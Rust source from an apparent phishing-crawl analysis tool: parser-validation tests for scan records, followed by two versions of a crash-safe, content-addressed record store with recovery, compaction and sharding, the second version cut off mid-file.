            assert!(scan_record(without.as_bytes()).is_err(), "missing {field} must fail");
        }
    }

    #[test]
    fn rejects_mistyped_and_duplicated_evidence() {
        let good = record_json("[]");
        for (from, to) in [
            ("\"message_id\":42", "\"message_id\":\"42\""),
            ("\"message_id\":42", "\"message_id\":-42"),
            ("\"message_id\":42", "\"message_id\":4.2"),
            ("\"class\":\"ActivePhish\"", "\"class\":7"),
            ("\"error\":null", "\"error\":7"),
            ("\"message_id\":42", "\"message_id\":42,\"message_id\":42"),
            ("\"body_bytes\":2048", "\"body_bytes\":02048"),
        ] {
            let bad = good.replace(from, to);
            assert_ne!(bad, good, "replacement {from:?} must apply");
            assert!(scan_record(bad.as_bytes()).is_err(), "{to} must fail the scan");
        }
        let v = visit_json("https://a.example/q", "[]", "\"tampered\"", "null");
        assert!(scan_record(record_json(&format!("[{v}]")).as_bytes()).is_err());
        let v = visit_json("https://a.example/q", "[]", "null", "{\"dhash\":2}");
        assert!(
            scan_record(record_json(&format!("[{v}]")).as_bytes()).is_err(),
            "hash pair without phash must fail"
        );
    }

    #[test]
    fn skips_unknown_fields_of_any_shape() {
        let good = record_json("[]");
        let extended = good.replace(
            "\"message_id\":42,",
            concat!(
                "\"message_id\":42,\"future\":{\"deep\":[1,-2.5e3,true,null,\"s\"],",
                "\"more\":{\"x\":[[]]}},"
            ),
        );
        assert!(scan_record(extended.as_bytes()).is_ok());
        // But a malformed unknown value is still a corrupt payload.
        let broken = good.replace("\"message_id\":42,", "\"message_id\":42,\"future\":01,");
        assert!(scan_record(broken.as_bytes()).is_err());
    }

    #[test]
    fn bounds_depth_and_validates_strings() {
        let bomb = format!(
            "{}{}",
            "{\"a\":".repeat(300),
            // Unclosed on purpose: the depth bound must trip first.
            "1"
        );
        assert!(scan_record(bomb.as_bytes()).is_err());
        let bad_utf8 = b"{\"message_id\":\xff}".to_vec();
        assert!(scan_record(&bad_utf8).is_err());
        let lone_surrogate = record_json("[]").replace("ActivePhish", "\\ud800oops");
        assert!(scan_record(lone_surrogate.as_bytes()).is_err());
        let paired = record_json("[]").replace("ActivePhish", "\\ud83d\\ude00");
        let rec = scan_record(paired.as_bytes()).unwrap();
        assert_eq!(rec.class, "😀");
        let control = record_json("[]").replace("ActivePhish", "bad\nclass");
        assert!(scan_record(control.as_bytes()).is_err());
    }
}
