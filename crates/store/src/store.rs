//! The persistent crawl store: append-only record log + blob store +
//! crash-safe open/recovery + compaction.
//!
//! # Layout
//!
//! ```text
//! <root>/
//!   CURRENT              # name of the active segment generation (atomic pointer)
//!   segments-00000/      # the active generation: seg-NNNNN.cbl frame files
//!   blobs/               # content-addressed artifacts, <fnv128:032x>.blob
//! ```
//!
//! # Recovery contract
//!
//! [`Store::open`] replays every segment of the active generation in index
//! order, CRC-checking each frame and rebuilding the in-memory
//! [`StoreIndex`]. A bad frame at the tail of the **last** segment is a
//! torn write from a crash: it is truncated away (and reported in the
//! [`RecoveryReport`]), losing at most the record that was mid-append.
//! A bad frame anywhere else is corruption and fails the open. Blob writes
//! happen *before* the record frame that references them, so a recovered
//! record's artifacts are always present; a crash can only orphan blobs,
//! never dangle references.
//!
//! # Compaction
//!
//! [`Store::compact`] rewrites the log keeping the newest record per
//! content hash, into a fresh generation directory, then atomically swaps
//! the `CURRENT` pointer — a crash at any instant leaves `CURRENT` naming
//! a complete generation. Blobs are never deleted by compaction (they are
//! shared, content-addressed evidence).

use crate::blob::BlobStore;
use crate::frame::{encode_frame, next_frame, FrameStep, KIND_RECORD};
use crate::index::StoreIndex;
use crate::segment::{list_segments, SegmentWriter};
use cb_telemetry::{with_active, CounterHandle, Determinism, MetricsRegistry, Trace, Tracer};
use crawlerbox::ScanRecord;
use std::collections::{HashMap, HashSet};
use std::io;
use std::path::{Path, PathBuf};

/// Trace "message id" used for store-level (non-per-record) events like
/// fsync, so they sort after every per-record span in the merged trace.
const STORE_OP_TRACE_ID: usize = usize::MAX;

/// Tuning and behaviour knobs for [`Store::open_with`].
#[derive(Debug, Clone)]
pub struct StoreOptions {
    /// Roll to a fresh segment once the current one reaches this size.
    pub segment_target_bytes: u64,
    /// Fsync after every append (durable but slow). Off by default; an
    /// explicit [`Store::sync`] is always available and `StoreSink`
    /// syncs once when finished.
    pub fsync_each_append: bool,
    /// Record `store.*` telemetry spans (metrics counters are always on).
    pub tracing: bool,
}

impl Default for StoreOptions {
    fn default() -> StoreOptions {
        StoreOptions {
            segment_target_bytes: 4 * 1024 * 1024,
            fsync_each_append: false,
            tracing: false,
        }
    }
}

/// What a torn tail looked like when [`Store::open`] truncated it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TornTail {
    /// The segment file that was truncated.
    pub segment: PathBuf,
    /// Valid bytes kept.
    pub kept_bytes: u64,
    /// Trailing bytes dropped.
    pub dropped_bytes: u64,
    /// Why the tail failed to parse.
    pub reason: String,
}

/// What [`Store::open`] found and did.
#[derive(Debug, Clone, Default)]
pub struct RecoveryReport {
    /// Segments replayed.
    pub segments: usize,
    /// Records recovered into the index.
    pub records: usize,
    /// Blobs indexed from the blob directory.
    pub blobs: usize,
    /// The torn tail, when one was truncated.
    pub torn: Option<TornTail>,
}

/// One fault found by [`Store::verify`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VerifyFault {
    /// Which file the fault is in.
    pub path: PathBuf,
    /// What is wrong.
    pub reason: String,
}

/// The result of a full [`Store::verify`] walk.
#[derive(Debug, Clone, Default)]
pub struct VerifyReport {
    /// CRC-clean records seen on disk.
    pub records: usize,
    /// Segment files walked.
    pub segments: usize,
    /// Blobs re-hashed.
    pub blobs: usize,
    /// Everything that failed.
    pub faults: Vec<VerifyFault>,
}

impl VerifyReport {
    /// Whether the walk found no faults.
    pub fn is_clean(&self) -> bool {
        self.faults.is_empty()
    }
}

/// What [`Store::compact`] rewrote.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CompactReport {
    /// Records kept (newest per content hash).
    pub kept: usize,
    /// Superseded records dropped.
    pub dropped: usize,
    /// Segment files before.
    pub segments_before: usize,
    /// Segment files after.
    pub segments_after: usize,
}

/// Counter handles for the store's metric registry.
#[derive(Debug)]
struct StoreMetrics {
    append_records: CounterHandle,
    append_bytes: CounterHandle,
    fsync_calls: CounterHandle,
    recover_segments: CounterHandle,
    recover_records: CounterHandle,
    recover_truncated_bytes: CounterHandle,
    blob_writes: CounterHandle,
    blob_bytes: CounterHandle,
    blob_dedup_hits: CounterHandle,
}

impl StoreMetrics {
    fn register(reg: &MetricsRegistry) -> StoreMetrics {
        use Determinism::Deterministic;
        StoreMetrics {
            append_records: reg.counter("store.append.records", Deterministic),
            append_bytes: reg.counter("store.append.bytes", Deterministic),
            fsync_calls: reg.counter("store.fsync.calls", Deterministic),
            recover_segments: reg.counter("store.recover.segments", Deterministic),
            recover_records: reg.counter("store.recover.records", Deterministic),
            recover_truncated_bytes: reg.counter("store.recover.truncated_bytes", Deterministic),
            blob_writes: reg.counter("store.blob.writes", Deterministic),
            blob_bytes: reg.counter("store.blob.bytes", Deterministic),
            blob_dedup_hits: reg.counter("store.blob.dedup_hits", Deterministic),
        }
    }
}

/// Point-in-time store shape, assembled from the live counters (no I/O).
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
pub struct StoreStats {
    /// Records in the index (log entries).
    pub records: usize,
    /// Segment files in the active generation.
    pub segments: usize,
    /// Total log bytes (recovered + appended this session).
    pub log_bytes: u64,
    /// Distinct blobs stored.
    pub blobs: usize,
    /// Records appended this session.
    pub appended: u64,
    /// Fsyncs issued this session.
    pub fsyncs: u64,
    /// Blob dedup hits this session.
    pub blob_dedup_hits: u64,
}

fn corrupt(path: &Path, what: impl std::fmt::Display) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, format!("{}: {what}", path.display()))
}

/// Name of generation `n`'s segment directory.
fn generation_dir_name(n: u32) -> String {
    format!("segments-{n:05}")
}

/// Parse a generation directory name.
fn parse_generation_name(name: &str) -> Option<u32> {
    let stem = name.strip_prefix("segments-")?;
    if stem.len() != 5 || !stem.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    stem.parse().ok()
}

/// Atomically (write temp + rename) point `CURRENT` at generation `n`.
fn write_current(root: &Path, n: u32) -> io::Result<()> {
    let tmp = root.join("CURRENT.tmp");
    std::fs::write(&tmp, generation_dir_name(n))?;
    std::fs::rename(&tmp, root.join("CURRENT"))
}

/// The persistent content-addressed crawl store.
#[derive(Debug)]
pub struct Store {
    root: PathBuf,
    opts: StoreOptions,
    generation: u32,
    writer: Option<SegmentWriter>,
    next_segment: u32,
    blobs: BlobStore,
    index: StoreIndex,
    recovery: RecoveryReport,
    log_bytes: u64,
    metrics: MetricsRegistry,
    m: StoreMetrics,
    tracer: Tracer,
}

impl Store {
    /// Open (creating or recovering) the store at `root` with default
    /// options.
    ///
    /// # Errors
    ///
    /// I/O failure, or corruption outside the recoverable torn-tail case.
    pub fn open(root: &Path) -> io::Result<Store> {
        Store::open_with(root, StoreOptions::default())
    }

    /// Open with explicit [`StoreOptions`]. See the module docs for the
    /// recovery contract.
    ///
    /// # Errors
    ///
    /// I/O failure, or corruption outside the recoverable torn-tail case.
    pub fn open_with(root: &Path, opts: StoreOptions) -> io::Result<Store> {
        std::fs::create_dir_all(root)?;
        let metrics = MetricsRegistry::new();
        let m = StoreMetrics::register(&metrics);
        let tracer = Tracer::new(opts.tracing);

        // Resolve the active generation; first open creates generation 0.
        let current_path = root.join("CURRENT");
        let generation = match std::fs::read_to_string(&current_path) {
            Ok(name) => parse_generation_name(name.trim())
                .ok_or_else(|| corrupt(&current_path, format!("bad generation name {name:?}")))?,
            Err(e) if e.kind() == io::ErrorKind::NotFound => {
                std::fs::create_dir_all(root.join(generation_dir_name(0)))?;
                write_current(root, 0)?;
                0
            }
            Err(e) => return Err(e),
        };
        let seg_dir = root.join(generation_dir_name(generation));
        if !seg_dir.is_dir() {
            return Err(corrupt(&current_path, "CURRENT names a missing generation"));
        }
        // Orphan generations (an interrupted compaction's leftovers, or an
        // already-superseded log) are dead weight: remove them.
        for entry in std::fs::read_dir(root)? {
            let entry = entry?;
            if let Some(g) = entry.file_name().to_str().and_then(parse_generation_name) {
                if g != generation {
                    std::fs::remove_dir_all(entry.path())?;
                }
            }
        }

        let blobs = BlobStore::open(&root.join("blobs"))?;

        // Replay the log.
        let segments = list_segments(&seg_dir)?;
        let mut index = StoreIndex::new();
        let mut recovery = RecoveryReport { blobs: blobs.len(), ..RecoveryReport::default() };
        let mut log_bytes = 0u64;
        for (pos, (seg_index, path)) in segments.iter().enumerate() {
            let last = pos + 1 == segments.len();
            let buf = std::fs::read(path)?;
            let mut at = 0usize;
            let mut seg_records = 0usize;
            let torn = loop {
                match next_frame(&buf, at) {
                    FrameStep::Frame { payload, next, .. } => {
                        let record: ScanRecord = serde_json::from_slice(payload)
                            .map_err(|e| corrupt(path, format!("undecodable record: {e}")))?;
                        index.insert(&record);
                        seg_records += 1;
                        at = next;
                    }
                    FrameStep::End => break None,
                    FrameStep::Torn { at: bad, reason } => {
                        if !last {
                            return Err(corrupt(
                                path,
                                format!("bad frame at {bad} in interior segment: {reason}"),
                            ));
                        }
                        break Some((bad, reason));
                    }
                }
            };
            recovery.segments += 1;
            recovery.records += seg_records;
            self_trace_recover(&tracer, *seg_index, &buf, seg_records, torn.as_ref());
            match torn {
                None => log_bytes += buf.len() as u64,
                Some((bad, reason)) => {
                    let file = std::fs::OpenOptions::new().write(true).open(path)?;
                    file.set_len(bad as u64)?;
                    file.sync_data()?;
                    let dropped = (buf.len() - bad) as u64;
                    m.recover_truncated_bytes.add(dropped);
                    recovery.torn = Some(TornTail {
                        segment: path.clone(),
                        kept_bytes: bad as u64,
                        dropped_bytes: dropped,
                        reason,
                    });
                    log_bytes += bad as u64;
                }
            }
        }
        m.recover_segments.add(recovery.segments as u64);
        m.recover_records.add(recovery.records as u64);

        // Continue appending to the last segment unless it is already at
        // its target size.
        let mut writer = None;
        let mut next_segment = 0u32;
        if let Some((seg_index, path)) = segments.last() {
            next_segment = seg_index + 1;
            let size = std::fs::metadata(path)?.len();
            if size < opts.segment_target_bytes {
                writer = Some(SegmentWriter::open_append(path, *seg_index, size)?);
            }
        }

        Ok(Store {
            root: root.to_path_buf(),
            opts,
            generation,
            writer,
            next_segment,
            blobs,
            index,
            recovery,
            log_bytes,
            metrics,
            m,
            tracer,
        })
    }

    /// Append one record: its artifacts go to the blob store first, then
    /// the canonically encoded record is framed onto the log.
    ///
    /// # Errors
    ///
    /// I/O failure writing blobs or the segment.
    pub fn append(&mut self, record: &ScanRecord) -> io::Result<()> {
        // Blobs before the record frame: recovery must never surface a
        // record whose artifacts are missing.
        let mut blob_fields = Vec::with_capacity(record.artifacts.len());
        for artifact in &record.artifacts {
            let written = self.blobs.put(artifact.hash, &artifact.bytes)?;
            if written {
                self.m.blob_writes.incr();
                self.m.blob_bytes.add(artifact.bytes.len() as u64);
            } else {
                self.m.blob_dedup_hits.incr();
            }
            blob_fields.push((artifact.kind.label(), artifact.bytes.len(), written));
        }

        let payload =
            serde_json::to_vec(record).map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
        let frame = encode_frame(KIND_RECORD, &payload);
        if self.writer.is_none() {
            let seg_dir = self.root.join(generation_dir_name(self.generation));
            self.writer = Some(SegmentWriter::create(&seg_dir, self.next_segment)?);
            self.next_segment += 1;
        }
        let writer = self.writer.as_mut().expect("writer just ensured");
        let wrote = writer.append(&frame)?;
        self.log_bytes += wrote;
        self.m.append_records.incr();
        self.m.append_bytes.add(wrote);
        let rolled = writer.bytes() >= self.opts.segment_target_bytes;
        self.index.insert(record);

        if let Some(_guard) = self.tracer.message(record.message_id) {
            with_active(|t| {
                t.begin(
                    "store.append",
                    vec![
                        ("bytes", payload.len().to_string()),
                        ("hash", format!("{:032x}", record.content_hash)),
                    ],
                );
                for (kind, len, written) in &blob_fields {
                    t.instant(
                        "store.blob",
                        vec![
                            ("kind", kind.to_string()),
                            ("bytes", len.to_string()),
                            ("dedup", (!written).to_string()),
                        ],
                    );
                }
                t.end();
            });
        }

        if self.opts.fsync_each_append {
            self.sync()?;
        }
        if rolled {
            // Seal the full segment (flush so the file is complete on disk)
            // and start the next one lazily on the next append.
            if let Some(mut w) = self.writer.take() {
                w.flush()?;
            }
        }
        Ok(())
    }

    /// Flush buffered log writes to the OS (no fsync).
    ///
    /// # Errors
    ///
    /// I/O failure flushing the segment writer.
    pub fn flush(&mut self) -> io::Result<()> {
        if let Some(w) = self.writer.as_mut() {
            w.flush()?;
        }
        Ok(())
    }

    /// Flush and fsync the active segment — the durable-write barrier.
    ///
    /// # Errors
    ///
    /// I/O failure flushing or syncing.
    pub fn sync(&mut self) -> io::Result<()> {
        if let Some(w) = self.writer.as_mut() {
            w.sync()?;
            self.m.fsync_calls.incr();
            if let Some(_guard) = self.tracer.message(STORE_OP_TRACE_ID) {
                with_active(|t| {
                    t.instant("store.fsync", vec![("records", "1".to_string())]);
                });
            }
        }
        Ok(())
    }

    /// Decode every record from disk, in log order.
    ///
    /// # Errors
    ///
    /// I/O failure, or frames that fail CRC/decoding (a store that opened
    /// cleanly and was not tampered with reads back cleanly).
    pub fn read_all(&mut self) -> io::Result<Vec<ScanRecord>> {
        self.flush()?;
        let mut out = Vec::with_capacity(self.index.len());
        for payload in self.read_payloads()? {
            out.push(
                serde_json::from_slice(&payload)
                    .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?,
            );
        }
        Ok(out)
    }

    /// Raw canonical payload bytes of every record, in log order — the
    /// byte-identity primitive the determinism tests compare.
    ///
    /// # Errors
    ///
    /// I/O failure or non-clean frames.
    pub fn read_payloads(&mut self) -> io::Result<Vec<Vec<u8>>> {
        self.flush()?;
        let seg_dir = self.root.join(generation_dir_name(self.generation));
        let mut out = Vec::with_capacity(self.index.len());
        for (_, path) in list_segments(&seg_dir)? {
            let buf = std::fs::read(&path)?;
            let mut at = 0usize;
            loop {
                match next_frame(&buf, at) {
                    FrameStep::Frame { payload, next, .. } => {
                        out.push(payload.to_vec());
                        at = next;
                    }
                    FrameStep::End => break,
                    FrameStep::Torn { at, reason } => {
                        return Err(corrupt(&path, format!("bad frame at {at}: {reason}")));
                    }
                }
            }
        }
        Ok(out)
    }

    /// Walk every segment frame and every blob, CRC/hash-checking all of
    /// it.
    ///
    /// # Errors
    ///
    /// Only on I/O failure listing directories; integrity problems are
    /// returned as faults in the report, not errors.
    pub fn verify(&mut self) -> io::Result<VerifyReport> {
        self.flush()?;
        let seg_dir = self.root.join(generation_dir_name(self.generation));
        let mut report = VerifyReport::default();
        for (_, path) in list_segments(&seg_dir)? {
            report.segments += 1;
            let buf = match std::fs::read(&path) {
                Ok(b) => b,
                Err(e) => {
                    report
                        .faults
                        .push(VerifyFault { path, reason: format!("unreadable: {e}") });
                    continue;
                }
            };
            let mut at = 0usize;
            loop {
                match next_frame(&buf, at) {
                    FrameStep::Frame { payload, next, .. } => {
                        if let Err(e) = serde_json::from_slice::<ScanRecord>(payload) {
                            report.faults.push(VerifyFault {
                                path: path.clone(),
                                reason: format!("undecodable record at {at}: {e}"),
                            });
                        } else {
                            report.records += 1;
                        }
                        at = next;
                    }
                    FrameStep::End => break,
                    FrameStep::Torn { at, reason } => {
                        report.faults.push(VerifyFault {
                            path: path.clone(),
                            reason: format!("bad frame at {at}: {reason}"),
                        });
                        break;
                    }
                }
            }
        }
        report.blobs = self.blobs.len();
        for fault in self.blobs.verify()? {
            report.faults.push(VerifyFault {
                path: self.root.join("blobs"),
                reason: format!("blob {:032x}: {}", fault.hash, fault.reason),
            });
        }
        Ok(report)
    }

    /// Rewrite the log keeping only the newest record per content hash,
    /// into a fresh generation, and atomically swap `CURRENT` to it.
    ///
    /// # Errors
    ///
    /// I/O failure; on error the old generation remains the active one.
    pub fn compact(&mut self) -> io::Result<CompactReport> {
        self.flush()?;
        let payloads = self.read_payloads()?;
        let segments_before = {
            let seg_dir = self.root.join(generation_dir_name(self.generation));
            list_segments(&seg_dir)?.len()
        };

        // The newest record per content hash survives; order is preserved.
        let mut latest: HashMap<u128, usize> = HashMap::new();
        for (seq, meta) in self.index.metas().iter().enumerate() {
            latest.insert(meta.content_hash, seq);
        }
        let survivors: Vec<usize> = (0..payloads.len())
            .filter(|&seq| latest.get(&self.index.metas()[seq].content_hash) == Some(&seq))
            .collect();

        // Write the new generation fully before touching the pointer.
        let new_generation = self.generation + 1;
        let new_dir = self.root.join(generation_dir_name(new_generation));
        std::fs::create_dir_all(&new_dir)?;
        let mut seg_index = 0u32;
        let mut writer: Option<SegmentWriter> = None;
        for &seq in &survivors {
            let frame = encode_frame(KIND_RECORD, &payloads[seq]);
            if writer.is_none() {
                writer = Some(SegmentWriter::create(&new_dir, seg_index)?);
                seg_index += 1;
            }
            let w = writer.as_mut().expect("writer just ensured");
            w.append(&frame)?;
            if w.bytes() >= self.opts.segment_target_bytes {
                w.sync()?;
                writer = None;
            }
        }
        if let Some(mut w) = writer {
            w.sync()?;
        }
        if survivors.is_empty() {
            // An empty generation still needs to exist for CURRENT.
            std::fs::create_dir_all(&new_dir)?;
        }

        // The atomic swap: after this rename, reopen sees the new log.
        write_current(&self.root, new_generation)?;
        let old_dir = self.root.join(generation_dir_name(self.generation));
        let _ = std::fs::remove_dir_all(&old_dir);

        // Swap in-memory state: decode survivors into a fresh index.
        let kept = survivors.len();
        let dropped = payloads.len() - kept;
        let mut index = StoreIndex::new();
        let mut log_bytes = 0u64;
        for &seq in &survivors {
            let record: ScanRecord = serde_json::from_slice(&payloads[seq])
                .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
            index.insert(&record);
            log_bytes += (payloads[seq].len() + crate::frame::FRAME_HEADER_LEN) as u64;
        }
        self.generation = new_generation;
        self.index = index;
        self.log_bytes = log_bytes;
        self.writer = None;
        self.next_segment = seg_index;
        // A partially filled final segment stays open for future appends.
        let segs = list_segments(&new_dir)?;
        if let Some((idx, path)) = segs.last() {
            let size = std::fs::metadata(path)?.len();
            if size < self.opts.segment_target_bytes {
                self.writer = Some(SegmentWriter::open_append(path, *idx, size)?);
            }
        }
        Ok(CompactReport {
            kept,
            dropped,
            segments_before,
            segments_after: segs.len(),
        })
    }

    /// The in-memory index over the log.
    pub fn index(&self) -> &StoreIndex {
        &self.index
    }

    /// All recorded content hashes (the incremental re-scan skip set).
    pub fn known_hashes(&self) -> HashSet<u128> {
        self.index.known_hashes()
    }

    /// Whether `hash` is already recorded.
    pub fn contains_hash(&self, hash: u128) -> bool {
        self.index.contains_hash(hash)
    }

    /// Records in the log.
    pub fn len(&self) -> usize {
        self.index.len()
    }

    /// Whether the log is empty.
    pub fn is_empty(&self) -> bool {
        self.index.is_empty()
    }

    /// Read a stored blob by content hash.
    ///
    /// # Errors
    ///
    /// I/O failure reading the blob file.
    pub fn blob(&self, hash: u128) -> io::Result<Option<Vec<u8>>> {
        self.blobs.get(hash)
    }

    /// The blob directory index.
    pub fn blobs(&self) -> &BlobStore {
        &self.blobs
    }

    /// What the last open found and recovered.
    pub fn recovery(&self) -> &RecoveryReport {
        &self.recovery
    }

    /// The store's metric registry (`store.*` counters).
    pub fn metrics(&self) -> &MetricsRegistry {
        &self.metrics
    }

    /// Drain the store's telemetry trace (empty unless
    /// [`StoreOptions::tracing`] was on).
    pub fn take_trace(&self) -> Trace {
        self.tracer.take()
    }

    /// Counter-derived shape summary (no I/O).
    pub fn stats(&self) -> StoreStats {
        StoreStats {
            records: self.index.len(),
            segments: self.next_segment as usize,
            log_bytes: self.log_bytes,
            blobs: self.blobs.len(),
            appended: self.m.append_records.get(),
            fsyncs: self.m.fsync_calls.get(),
            blob_dedup_hits: self.m.blob_dedup_hits.get(),
        }
    }

    /// The store's root directory.
    pub fn root(&self) -> &Path {
        &self.root
    }
}

/// Emit the per-segment recovery span on `tracer` (no-op when disabled).
fn self_trace_recover(
    tracer: &Tracer,
    seg_index: u32,
    buf: &[u8],
    records: usize,
    torn: Option<&(usize, String)>,
) {
    if let Some(_guard) = tracer.message(seg_index as usize) {
        with_active(|t| {
            t.begin(
                "store.recover",
                vec![
                    ("segment", seg_index.to_string()),
                    ("bytes", buf.len().to_string()),
                ],
            );
            t.instant(
                "store.recover.result",
                vec![
                    ("records", records.to_string()),
                    ("torn", torn.is_some().to_string()),
                ],
            );
            t.end();
        });
    }
}
