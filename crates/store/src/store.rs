//! The persistent crawl store: a hash-prefix-sharded append-only record
//! log + blob store + crash-safe parallel recovery, quarantine and repair.
//!
//! # Layout (format v2)
//!
//! ```text
//! <root>/
//!   STORE                # manifest: "v2 shards=N" (written once, durably)
//!   blobs/               # shared content-addressed artifacts, <fnv128:032x>.blob
//!   shard-00/
//!     CURRENT            # name of this shard's active generation (atomic pointer)
//!     segments-00000/    # the active generation: seg-NNNNN.cbl frame files
//!   shard-01/ ...
//! ```
//!
//! Records are routed to shards by content-hash prefix
//! ([`shard_of`](crate::shard::shard_of)); each shard is an independent
//! segment log with its own generation pointer, so shards recover, compact
//! and fail independently. A v1 store (`CURRENT` at the root) is migrated
//! in place to a single-shard v2 layout on open.
//!
//! # Recovery contract
//!
//! [`Store::open`] replays every shard — fanned out over the workspace's
//! work-stealing pool, so recovery wall-clock scales with ~1/workers — and
//! never hard-fails on corruption: a torn tail in a shard's last segment
//! is truncated away (a crash artifact); anything worse quarantines that
//! shard only. Queries, campaign clustering and `known_hashes` are served
//! from the healthy shards, appends routed to a quarantined shard fail
//! with an explicit error, and [`Store::repair`] re-adjudicates a
//! quarantined shard from its last valid frames. [`Store::stats`] and the
//! `store.shards.*` telemetry gauges surface the degraded state.
//!
//! # Durability discipline
//!
//! Blob bytes are written (temp + fsync + rename) *before* the record
//! frame that references them; [`Store::sync`] fsyncs the blob directory,
//! then each dirty shard's active segment, then any generation directory
//! with freshly created segment files. `CURRENT` swaps write the new
//! pointer to a temp file, fsync it, rename, and fsync the parent
//! directory — rename alone is not durable across a crash. The crash-point
//! sweep in `tests/store_chaos.rs` drives all of this through
//! [`FaultVfs`](crate::vfs::FaultVfs) and fails if any acknowledged record
//! can be lost.

use crate::blob::BlobStore;
use crate::encoded::EncodedRecord;
use crate::index::{RecordMeta, StoreIndex};
use crate::query::{Campaign, CampaignClusterer};
use crate::shard::{shard_of, RepairReport, Shard, ShardHealth, TornTail};
use crate::vfs::{RealVfs, Vfs};
use cb_phishgen::MessageClass;
use cb_sim::{SimDuration, SimTime};
use cb_telemetry::{
    with_active, CounterHandle, Determinism, GaugeHandle, HistogramHandle, MetricsRegistry, Trace,
    Tracer,
};
use crawlerbox::ScanRecord;
use std::collections::{BTreeMap, HashSet};
use std::io;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

/// Trace "message id" used for store-level (non-per-record) events like
/// fsync, so they sort after every per-record span in the merged trace.
const STORE_OP_TRACE_ID: usize = usize::MAX;

/// Tuning and behaviour knobs for [`Store::open_with`].
#[derive(Debug, Clone)]
pub struct StoreOptions {
    /// Roll to a fresh segment once the current one reaches this size.
    pub segment_target_bytes: u64,
    /// Run the durable barrier automatically as records arrive (durable
    /// ingest mode). Off by default; an explicit [`Store::sync`] is always
    /// available and `StoreSink` syncs once when finished. With
    /// [`commit_batch`](StoreOptions::commit_batch) = 1 this is the classic
    /// fsync-per-append discipline; larger batches group-commit.
    pub fsync_each_append: bool,
    /// Group-commit batch size: in durable ingest mode, run the barrier
    /// once per this many appended records instead of after every one,
    /// amortizing the blob-dir → segment → generation-dir fsync chain.
    /// A record is **acked** only once a barrier covering it completes.
    /// 1 (the default) reproduces fsync-per-append exactly.
    pub commit_batch: usize,
    /// Byte cap on a group commit: the barrier also fires once this many
    /// pending frame bytes accumulate, whatever the batch count says.
    /// 0 disables the cap.
    pub commit_max_bytes: u64,
    /// Sim-time cap on a group commit: the barrier also fires when the
    /// delivery-time span of the pending records reaches this duration.
    /// [`SimDuration::ZERO`] (the default) disables the cap — corpus
    /// delivery times span months of sim time, so any small cap would
    /// degenerate to a commit per record.
    pub commit_max_hold: SimDuration,
    /// Record `store.*` telemetry spans (metrics counters are always on).
    pub tracing: bool,
    /// Shard count for a store created by this open. An existing store's
    /// manifest always wins — the count is fixed at creation.
    pub shards: usize,
    /// Worker threads for parallel shard recovery, compaction and the
    /// batch-append / query fan-out.
    pub recovery_workers: usize,
}

impl Default for StoreOptions {
    fn default() -> StoreOptions {
        StoreOptions {
            segment_target_bytes: 4 * 1024 * 1024,
            fsync_each_append: false,
            commit_batch: 1,
            commit_max_bytes: 4 * 1024 * 1024,
            commit_max_hold: SimDuration::ZERO,
            tracing: false,
            shards: 4,
            recovery_workers: std::thread::available_parallelism()
                .map(|n| n.get().min(8))
                .unwrap_or(4),
        }
    }
}

/// What [`Store::open`] found and did, across all shards.
#[derive(Debug, Clone, Default)]
pub struct RecoveryReport {
    /// Segments replayed (all shards).
    pub segments: usize,
    /// Records recovered into the indexes (healthy shards only).
    pub records: usize,
    /// Blobs indexed from the blob directory.
    pub blobs: usize,
    /// Torn tails truncated (at most one per shard).
    pub torn: Vec<TornTail>,
    /// Shards quarantined on open: `(shard id, reason)`.
    pub quarantined: Vec<(usize, String)>,
}

/// One fault found by [`Store::verify`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VerifyFault {
    /// Which file the fault is in.
    pub path: PathBuf,
    /// What is wrong.
    pub reason: String,
}

/// The result of a full [`Store::verify`] walk.
#[derive(Debug, Clone, Default)]
pub struct VerifyReport {
    /// CRC-clean records seen on disk.
    pub records: usize,
    /// Segment files walked.
    pub segments: usize,
    /// Blobs re-hashed.
    pub blobs: usize,
    /// Everything that failed.
    pub faults: Vec<VerifyFault>,
}

impl VerifyReport {
    /// Whether the walk found no faults.
    pub fn is_clean(&self) -> bool {
        self.faults.is_empty()
    }
}

/// What [`Store::compact`] rewrote, summed over shards.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CompactReport {
    /// Records kept (newest per content hash).
    pub kept: usize,
    /// Superseded records dropped.
    pub dropped: usize,
    /// Segment files before.
    pub segments_before: usize,
    /// Segment files after.
    pub segments_after: usize,
}

/// Counter and gauge handles for the store's metric registry.
#[derive(Debug)]
pub(crate) struct StoreMetrics {
    pub(crate) append_records: CounterHandle,
    pub(crate) append_bytes: CounterHandle,
    pub(crate) append_errors: CounterHandle,
    pub(crate) append_pending: GaugeHandle,
    pub(crate) commit_batches: CounterHandle,
    pub(crate) commit_records: HistogramHandle,
    pub(crate) fsync_calls: CounterHandle,
    pub(crate) recover_segments: CounterHandle,
    pub(crate) recover_records: CounterHandle,
    pub(crate) recover_truncated_bytes: CounterHandle,
    pub(crate) blob_writes: CounterHandle,
    pub(crate) blob_bytes: CounterHandle,
    pub(crate) blob_dedup_hits: CounterHandle,
    pub(crate) shards_total: GaugeHandle,
    pub(crate) shards_quarantined: GaugeHandle,
    pub(crate) repair_calls: CounterHandle,
    pub(crate) repair_records: CounterHandle,
    pub(crate) gc_blobs: CounterHandle,
}

impl StoreMetrics {
    fn register(reg: &MetricsRegistry) -> StoreMetrics {
        use Determinism::Deterministic;
        StoreMetrics {
            append_records: reg.counter("store.append.records", Deterministic),
            append_bytes: reg.counter("store.append.bytes", Deterministic),
            append_errors: reg.counter("store.append.errors", Deterministic),
            append_pending: reg.gauge("store.append.pending", Deterministic),
            commit_batches: reg.counter("store.commit.batches", Deterministic),
            commit_records: reg.histogram(
                "store.commit.batch_records",
                Deterministic,
                &[1, 2, 4, 8, 16, 32, 64, 128, 256, 512, 1024],
            ),
            fsync_calls: reg.counter("store.fsync.calls", Deterministic),
            recover_segments: reg.counter("store.recover.segments", Deterministic),
            recover_records: reg.counter("store.recover.records", Deterministic),
